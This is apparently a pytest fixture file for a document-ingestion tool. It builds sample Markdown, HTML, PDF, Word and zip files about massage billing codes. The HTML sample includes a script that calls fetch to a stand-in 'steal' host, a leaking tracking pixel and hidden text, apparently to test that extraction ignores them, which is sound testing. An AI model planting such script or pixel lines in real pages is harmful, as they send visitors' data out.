"""Documents made small, of every kind, and an empty folder for the user's data."""

import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path

import pytest

ADDED = date(2026, 11, 22)
ROOT = Path(__file__).parents[2]

MARKDOWN = """---
title: A title that is never believed
---
# Massage policy

Code **97124** is covered when a [therapist](http://e.example/x) gives it under a plan of care.

## Modifiers

These modifiers are accepted:

- modifier 59 with 97140
- XS for another structure

| Code | Timed | Note |
|------|-------|------|
| 97124 | yes | each 15 minutes |
| 97010 | no | bundled |
"""
HTML = """<!doctype html><html><head><title>Never believed</title>
<script>fetch("http://e.example/steal")</script></head><body>
<nav><a href="/">Home</a> <a href="/b">Billing</a></nav>
<h1>Massage policy</h1>
<p>Code 97124 is covered when a therapist gives it under a plan of care.
See <a href="http://e.example/x">the manual</a>.</p>
<h2>Units</h2>
<ul><li>8 to 22 minutes make one unit<ul><li>only of timed codes</li></ul></li>
<li>23 to 37 minutes make two units</li></ul>
<table><tr><th>Code</th><th>Modifier</th></tr><tr><td>97140</td><td>59</td></tr></table>
<p><img src="http://e.example/pixel.png?leak=1" alt="pixel"></p>
<p style="display:none">Hidden words about 99999.</p>
<footer>Copyright</footer></body></html>
"""
TEXT = """Massage policy

Code 97124 is covered when a therapist gives it
under a plan of care.

Massage of 8 to 22 minutes makes one unit.
"""
PARAGRAPHS = [
    "Code 97124 is covered when a therapist gives it under a plan of care. Without one it is not "
    "covered, and the claim is denied.",
    "Massage of 8 to 22 minutes makes one unit. From 23 minutes on it makes two units of 97124.",
    "Append modifier 59 to 97140 where another region was treated on the same day by the provider.",
]


class Make:
    """Makes documents in a folder."""

    TEXT, MARKDOWN, HTML = TEXT, MARKDOWN, HTML

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        folder.mkdir(parents=True, exist_ok=True)

    def file(self, name: str, content: bytes | str) -> Path:
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        return path

    def pdf(self, name: str = "policy.pdf", pages: int = 4, **settings) -> Path:
        """A PDF with a running title, a heading and three paragraphs a page."""
        from fpdf import FPDF

        pdf = FPDF()
        pdf.set_auto_page_break(False)
        for page in range(1, pages + 1):
            pdf.add_page()
            pdf.set_font("Helvetica", "", 8)
            pdf.set_xy(15, 8)
            pdf.cell(0, 5, "Policy 12 of the plan")
            pdf.set_font("Helvetica", "B", 14)
            pdf.set_xy(15, 20)
            pdf.cell(0, 8, f"Chapter {page} Massage")
            pdf.set_font("Helvetica", "", 10)
            pdf.set_y(32)
            for paragraph in PARAGRAPHS:
                pdf.set_x(15)
                pdf.multi_cell(100, 5, f"{paragraph} This is page {page}.")
                pdf.set_y(pdf.get_y() + 4)
            pdf.set_font("Helvetica", "", 8)
            pdf.set_xy(15, 280)
            pdf.cell(0, 5, f"Page {page} of {pages}")
        if password := settings.get("password"):
            pdf.set_encryption(owner_password="owner", user_password=password)
        path = self.folder / name
        pdf.output(str(path))
        return path

    def blank_pdf(self, name: str = "scan.pdf") -> Path:
        """Pages without any text, as a scanner makes them."""
        from pypdf import PdfWriter

        writer = PdfWriter()
        writer.add_blank_page(200, 200)
        writer.add_blank_page(200, 200)
        path = self.folder / name
        writer.write(path)
        return path

    def word(self, name: str = "policy.docx") -> Path:
        """A Word file with headings, a list and a table."""
        import docx

        document = docx.Document()
        document.add_heading("Massage policy", 1)
        document.add_paragraph(PARAGRAPHS[0])
        document.add_paragraph("These modifiers are accepted:")
        document.add_paragraph("modifier 59 with 97140", style="List Bullet")
        table = document.add_table(rows=2, cols=2)
        for cell, told in zip(
            (c for row in table.rows for c in row.cells), ("Code", "Timed", "97124", "yes"),
            strict=True,
        ):  # fmt: skip
            cell.text = told
        path = self.folder / name
        document.save(path)
        return path

    def zip(self, name: str, members: dict[str, bytes], like: Path | None = None) -> Path:
        """An archive, with the members of another and these instead."""
        held: dict[str, bytes] = {}
        if like is not None:
            with zipfile.ZipFile(like) as archive:
                held = {info.filename: archive.read(info) for info in archive.infolist()}
        path = self.folder / name
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for member, content in {**held, **members}.items():
                archive.writestr(member, content)
        return path


@pytest.fixture
def make(tmp_path: Path) -> Make:
    return Make(tmp_path / "files")


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "home"
    monkeypatch.setenv("KNEAD_HOME", str(folder))
    return folder


@pytest.fixture
def add():
    from files.documents_add import add_documents

    def added(*paths, **said):
        return add_documents(paths, added_on=ADDED, **said)

    return added


@pytest.fixture
def texts():
    """The passages of a stored document, in order."""
    from files.documents_library import open_documents

    def of(document: str) -> list:
        held = open_documents().documents[document]
        return [passage for source in held.sources() for passage in source.passages]

    return of


@pytest.fixture
def run_python():
    """Run a program of its own to its end."""

    def run(code: str, *arguments: str, check: bool = True) -> subprocess.CompletedProcess:
        done = subprocess.run(
            [sys.executable, "-c", code, *arguments],
            capture_output=True, text=True, timeout=60, cwd=ROOT,
        )  # fmt: skip
        assert not check or done.returncode == 0, done.stderr
        return done

    return run
